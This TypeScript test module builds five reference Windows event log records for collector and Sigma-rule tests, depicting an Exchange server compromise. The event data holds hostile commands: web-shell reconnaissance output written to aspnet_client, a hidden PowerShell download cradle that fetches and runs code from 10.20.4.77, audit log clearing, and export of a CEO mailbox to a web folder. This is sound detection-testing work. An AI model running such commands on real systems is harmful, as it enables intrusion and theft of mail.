/**
 * The five reference Windows events behind the collector fixtures (test/fixtures/windows/**,
 * test/fixtures/collectors/**): each fixture file holds these same events in one real layout, and this module
 * builds them as EVTX records (helper A's byte-level builder) so the tests can check that every layout yields
 * the same fields and the same Sigma matches as the binary log.
 *
 *  1. Sysmon 1: w3wp.exe (Exchange OWA app pool) starts cmd.exe writing into aspnet_client (web shell)
 *  2. Security 4624: Kerberos network logon of svc-backup from 10.20.4.77
 *  3. Security 1102: audit log cleared (UserData / LogFileCleared)
 *  4. System 7045: service installed with a PowerShell download cradle (classic EventID Qualifiers)
 *  5. MSExchange Management 1: New-MailboxExportRequest to a web folder (MSExchange CmdletLogs, unnamed Data)
 */
import type { BuilderRecord, SubValue } from './evtx/builder.js';
import { el, opt, sub, VT } from './evtx/builder.js';

type V = [type: number, value: unknown];

export interface CanonEvent {
  provider: string;
  guid?: string;
  eventSourceName?: string;
  eventId: number;
  qualifiers?: number;
  version?: number;
  level: number;
  task: number;
  opcode?: number;
  keywords: bigint;
  /** ms precision: EVTX FILETIME built from a Date */
  time: string;
  recordId: number;
  activityId?: string;
  pid: number;
  tid: number;
  channel: string;
  computer: string;
  userId?: string;
  /** named EventData (name → typed value), or unnamed values (name null) */
  data?: [name: string | null, v: V][];
  userData?: { name: string; xmlns: string; fields: [string, V][] };
}

const S = (s: string): V => [VT.String, s];
const U32 = (n: number): V => [VT.UInt32, n];
const HEX64 = (n: bigint): V => [VT.HexInt64, n];
const G = (g: string): V => [VT.Guid, g];
const SID = (s: string): V => [VT.Sid, s];

export const CANON: CanonEvent[] = [
  {
    provider: 'Microsoft-Windows-Sysmon', guid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9', eventId: 1, version: 5, level: 4, task: 1, opcode: 0,
    keywords: 0x8000000000000000n, time: '2024-03-12T09:14:27.884Z', recordId: 48213, pid: 2904, tid: 3840,
    channel: 'Microsoft-Windows-Sysmon/Operational', computer: 'EXCH01.corp.example.com', userId: 'S-1-5-18',
    data: [
      ['RuleName', S('-')],
      ['UtcTime', S('2024-03-12 09:14:27.880')],
      ['ProcessGuid', G('B4F2C1A0-8E3D-65F0-3A1B-000000001F00')],
      ['ProcessId', U32(7412)],
      ['Image', S('C:\\Windows\\System32\\cmd.exe')],
      ['FileVersion', S('10.0.17763.1697 (WinBuild.160101.0800)')],
      ['Description', S('Windows Command Processor')],
      ['Product', S('Microsoft® Windows® Operating System')],
      ['Company', S('Microsoft Corporation')],
      ['OriginalFileName', S('Cmd.Exe')],
      ['CommandLine', S('cmd /c "whoami /all & net group "Exchange Trusted Subsystem" /domain" > C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\log.txt')],
      ['CurrentDirectory', S('c:\\windows\\system32\\inetsrv\\')],
      ['User', S('NT AUTHORITY\\SYSTEM')],
      ['LogonGuid', G('B4F2C1A0-0000-0000-E703-000000000000')],
      ['LogonId', HEX64(0x3e7n)],
      ['TerminalSessionId', U32(0)],
      ['IntegrityLevel', S('System')],
      ['Hashes', S('SHA1=F1EFA7A6F7F5E0D8A6B1F0D3C4E5B6A7980A1B2C,MD5=911D039E71583A07320B32BDE22F8E22,SHA256=BC866CFCDDA37E24DC2634DC282C7A0E6F55209DA17A8FA105B07414C0E7C527,IMPHASH=272245E2988E1E430500B852C4FB5E18')],
      ['ParentProcessGuid', G('B4F2C1A0-2C11-65F0-1E0B-000000001F00')],
      ['ParentProcessId', U32(5136)],
      ['ParentImage', S('C:\\Windows\\System32\\inetsrv\\w3wp.exe')],
      ['ParentCommandLine', S('c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\\\.\\pipe\\iisipm8a3f2c1e -h "C:\\inetpub\\temp\\apppools\\MSExchangeOWAAppPool\\MSExchangeOWAAppPool.config" -w "" -m 0')],
      ['ParentUser', S('NT AUTHORITY\\SYSTEM')],
    ],
  },
  {
    provider: 'Microsoft-Windows-Security-Auditing', guid: '54849625-5478-4994-A5BA-3E3B0328C30D', eventId: 4624, version: 2, level: 0, task: 12544, opcode: 0,
    keywords: 0x8020000000000000n, time: '2024-03-12T09:16:02.317Z', recordId: 1193321, activityId: '6EF16E1E-2DB8-0001-DA6F-F16EB82DD501',
    pid: 652, tid: 7180, channel: 'Security', computer: 'EXCH01.corp.example.com',
    data: [
      ['SubjectUserSid', SID('S-1-0-0')],
      ['SubjectUserName', S('-')],
      ['SubjectDomainName', S('-')],
      ['SubjectLogonId', HEX64(0n)],
      ['TargetUserSid', SID('S-1-5-21-3623811015-3361044348-30300820-1105')],
      ['TargetUserName', S('svc-backup')],
      ['TargetDomainName', S('CORP.EXAMPLE.COM')],
      ['TargetLogonId', HEX64(0x8a3c51fn)],
      ['LogonType', U32(3)],
      ['LogonProcessName', S('Kerberos')],
      ['AuthenticationPackageName', S('Kerberos')],
      ['WorkstationName', S('-')],
      ['LogonGuid', G('2F1D9A3C-77B1-4E0A-91C2-5B6D8E3F0A17')],
      ['TransmittedServices', S('-')],
      ['LmPackageName', S('-')],
      ['KeyLength', U32(0)],
      ['ProcessId', HEX64(0n)],
      ['ProcessName', S('-')],
      ['IpAddress', S('10.20.4.77')],
      ['IpPort', S('50211')],
      ['ImpersonationLevel', S('%%1833')],
      ['RestrictedAdminMode', S('-')],
      ['TargetOutboundUserName', S('-')],
      ['TargetOutboundDomainName', S('-')],
      ['VirtualAccount', S('%%1843')],
      ['TargetLinkedLogonId', HEX64(0n)],
      ['ElevatedToken', S('%%1842')],
    ],
  },
  {
    provider: 'Microsoft-Windows-Eventlog', guid: 'FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148', eventId: 1102, version: 0, level: 4, task: 104, opcode: 0,
    keywords: 0x4020000000000000n, time: '2024-03-12T09:31:45.002Z', recordId: 1193407, pid: 1336, tid: 9012,
    channel: 'Security', computer: 'EXCH01.corp.example.com',
    userData: {
      name: 'LogFileCleared', xmlns: 'http://manifests.microsoft.com/win/2004/08/windows/eventlog',
      fields: [
        ['SubjectUserSid', SID('S-1-5-21-3623811015-3361044348-30300820-1105')],
        ['SubjectUserName', S('svc-backup')],
        ['SubjectDomainName', S('CORP')],
        ['SubjectLogonId', HEX64(0x8a3c51fn)],
      ],
    },
  },
  {
    provider: 'Service Control Manager', guid: '555908D1-A6D7-4695-8E1E-26931D2012F4', eventSourceName: 'Service Control Manager', eventId: 7045,
    qualifiers: 16384, version: 0, level: 4, task: 0, opcode: 0, keywords: 0x8080000000000000n, time: '2024-03-12T09:22:10.551Z',
    recordId: 88102, pid: 780, tid: 4416, channel: 'System', computer: 'EXCH01.corp.example.com',
    userId: 'S-1-5-21-3623811015-3361044348-30300820-1105',
    data: [
      ['ServiceName', S('WinRMSvcHost')],
      ['ImagePath', S('%COMSPEC% /c powershell -nop -w hidden -c "IEX ((new-object net.webclient).downloadstring(\'http://10.20.4.77:8080/a\'))"')],
      ['ServiceType', S('user mode service')],
      ['StartType', S('demand start')],
      ['AccountName', S('LocalSystem')],
    ],
  },
  {
    provider: 'MSExchange CmdletLogs', eventId: 1, qualifiers: 16384, level: 4, task: 1, keywords: 0x80000000000000n,
    time: '2024-03-12T09:25:33.410Z', recordId: 30551, pid: 0, tid: 0, channel: 'MSExchange Management', computer: 'EXCH01.corp.example.com',
    data: [
      [null, S('New-MailboxExportRequest')],
      [null, S('-Mailbox "ceo@corp.example.com" -FilePath "\\\\EXCH01\\c$\\inetpub\\wwwroot\\aspnet_client\\ceo.pst"')],
      [null, S('corp.example.com/Users/svc-backup')],
      [null, S('S-1-5-21-3623811015-3361044348-30300820-1105')],
      [null, S('S-1-5-21-3623811015-3361044348-30300820-1105')],
      [null, S('Remote-ManagementShell-Unknown')],
      [null, S('7356 w3wp#MSExchangePowerShellAppPool')],
      [null, S('43')],
      [null, S('00:00:00.4375198')],
      [null, S("View Entire Forest: 'False', Default Scope: 'corp.example.com', Configuration Domain Controller: 'dc01.corp.example.com'")],
      [null, S('False')],
      [null, S('0 objects execution has been proxied to remote server.')],
      [null, S('ActivityId: 3f1a9c52-6d0e-4b7a-9e21-8c4d5f6a7b80')],
      [null, S('ServicePlan:;IsAdmin:True;')],
      [null, S('en-US')],
    ],
  },
];

const sv = (v: V): SubValue => sub(v[0], v[1]);

/** The event as an EVTX record for helper A's builder (typed substitutions, as a real provider template would). */
export function canonRecord(e: CanonEvent): BuilderRecord {
  const t = new Date(e.time);
  const sys = el('System', {}, [
    el('Provider', {
      Name: sub(VT.String, e.provider),
      Guid: e.guid ? sub(VT.Guid, e.guid) : opt(VT.Null, null),
      EventSourceName: e.eventSourceName ? sub(VT.String, e.eventSourceName) : opt(VT.Null, null),
    }),
    el('EventID', { Qualifiers: e.qualifiers !== undefined ? sub(VT.UInt16, e.qualifiers) : opt(VT.Null, null) }, [sub(VT.UInt16, e.eventId)]),
    ...(e.version !== undefined ? [el('Version', {}, [sub(VT.UInt8, e.version)])] : []),
    el('Level', {}, [sub(VT.UInt8, e.level)]),
    el('Task', {}, [sub(VT.UInt16, e.task)]),
    ...(e.opcode !== undefined ? [el('Opcode', {}, [sub(VT.UInt8, e.opcode)])] : []),
    el('Keywords', {}, [sub(VT.HexInt64, e.keywords)]),
    el('TimeCreated', { SystemTime: sub(VT.FileTime, t) }),
    el('EventRecordID', {}, [sub(VT.UInt64, e.recordId)]),
    el('Correlation', { ActivityID: e.activityId ? sub(VT.Guid, e.activityId) : opt(VT.Null, null) }),
    el('Execution', { ProcessID: sub(VT.UInt32, e.pid), ThreadID: sub(VT.UInt32, e.tid) }),
    el('Channel', {}, [sub(VT.String, e.channel)]),
    el('Computer', {}, [sub(VT.String, e.computer)]),
    el('Security', { UserID: e.userId ? sub(VT.Sid, e.userId) : opt(VT.Null, null) }),
  ]);
  const body = e.userData
    ? el('UserData', {}, [el(e.userData.name, { xmlns: e.userData.xmlns }, e.userData.fields.map(([n, v]) => el(n, {}, [sv(v)])))])
    : el('EventData', {}, (e.data ?? []).map(([n, v]) => (n === null ? el('Data', {}, [sv(v)]) : el('Data', { Name: n }, [sv(v)]))));
  return { id: e.recordId, time: t, xml: el('Event', { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' }, [sys, body]) };
}
